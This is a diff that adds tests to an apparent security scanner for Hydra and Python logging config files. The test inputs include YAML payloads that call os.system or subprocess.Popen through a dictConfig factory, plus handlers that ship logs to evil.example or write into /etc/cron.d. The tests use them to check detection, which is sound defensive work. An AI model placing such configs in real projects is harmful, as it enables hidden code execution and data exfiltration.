@@ -286,3 +286,68 @@ def test_20b3_a_hydra_target_resolving_to_a_denied_path_is_unsafe(tmp_path: Path
                     "instantiate; instantiate(OmegaConf.load(sys.argv[1]).model)", name], cwd=tmp_path,
                    capture_output=True, timeout=120, env=env)
     assert mark.exists()  # Hydra 1.3.2 ran os.system("touch MARK")
+
+
+# --- 20b-4: a logging dictConfig's standard-library classes are logging, not targets ----------------
+FIXTURES = ROOT / "tests" / "fixtures" / "hydra" / "logging"
+
+
+@pytest.mark.parametrize("name", ["job_logging-default.yaml", "hydra_logging-hydra_debug.yaml"])
+def test_20b4_hydras_own_logging_configs_are_safe(name: str) -> None:
+    r = scan_bytes((FIXTURES / name).read_bytes(), name)
+    assert r.verdict == "safe", [(f.id, f.message) for f in r.findings]
+    logs = [f for f in r.findings if f.id == "config.logging"]
+    assert logs and all(f.severity == "info" and "logging.FileHandler" in f.message for f in logs)
+
+
+OVERRIDE = ("job_logging:\n  handlers:\n    file:\n      class: logging.handlers.RotatingFileHandler\n"
+            "      filename: ${hydra.runtime.output_dir}/train.log\n")
+
+
+def test_20b4_a_hydra_project_logging_override_is_safe() -> None:
+    assert _scan(OVERRIDE, "configs/hydra/default.yaml")[0] == "safe"
+    assert _scan(json.dumps({"version": 1, "handlers": {"f": {"class": "logging.FileHandler", "filename": "x.log"}}}),
+                 "logging.json")[0] == "safe"
+
+
+DICTCONFIG = "version: 1\nhandlers:\n  h:\n{body}root:\n  handlers: [h]\n"
+
+
+@pytest.mark.parametrize(("body", "verdict", "severity"), [
+    ("    class: logging.FileHandler\n    filename: /etc/cron.d/job\n", "safe", "medium"),
+    ("    class: logging.FileHandler\n    filename: ../../x.log\n", "safe", "medium"),
+    ("    class: logging.handlers.SysLogHandler\n    address: [evil.example, 514]\n", "safe", "medium"),
+    ("    class: logging.handlers.HTTPHandler\n    host: evil.example\n    url: /log\n", "safe", "medium"),
+    ("    class: logging.StreamHandler\n", "safe", None),
+])
+def test_20b4_what_a_stdlib_handler_does_is_reported(body: str, verdict: str, severity: str | None) -> None:
+    r = scan_bytes(DICTCONFIG.format(body=body).encode(), "logging.yaml")
+    logs = [f.severity for f in r.findings if f.id == "config.logging"]
+    assert r.verdict == verdict and logs == ([severity] if severity else []), r.findings
+
+
+@pytest.mark.parametrize("text", [
+    DICTCONFIG.format(body="    (): os.system\n    command: touch MARK\n"),
+    DICTCONFIG.format(body="    class: os.system\n"),
+    "version: 1\nformatters:\n  f:\n    (): subprocess.Popen\n",
+    "model:\n  activation: logging.FileHandler\n",  # no dictConfig: a Callable argument's value
+    "handlers:\n  h:\n    class: logging.FileHandler\n",  # no version, no Hydra logging key
+    "version: 1\nhandlers:\n  h:\n    class: logging.handlers.os.system\n",
+])
+def test_20b4_a_factory_or_a_foreign_class_stays_a_target(text: str) -> None:
+    verdict, ids, msg = _scan(text, "logging.yaml")
+    assert verdict == "unsafe" and "code.dangerous-target" in ids, msg
+
+
+def test_20b4_dictconfig_calls_a_factory(tmp_path: Path) -> None:
+    """The real ``logging.config.dictConfig`` (stdlib) calls a ``()`` factory: a throw-away subprocess."""
+    import sys
+
+    pytest.importorskip("yaml")
+    mark = tmp_path / "MARK"
+    text = DICTCONFIG.format(body=f"    (): os.system\n    command: touch {mark}\n")
+    (tmp_path / "c.yaml").write_text(text)
+    subprocess.run([sys.executable, "-c", "import logging.config, sys, yaml; "
+                    "logging.config.dictConfig(yaml.safe_load(open(sys.argv[1])))", str(tmp_path / "c.yaml")],
+                   capture_output=True, timeout=60)
+    assert mark.exists()
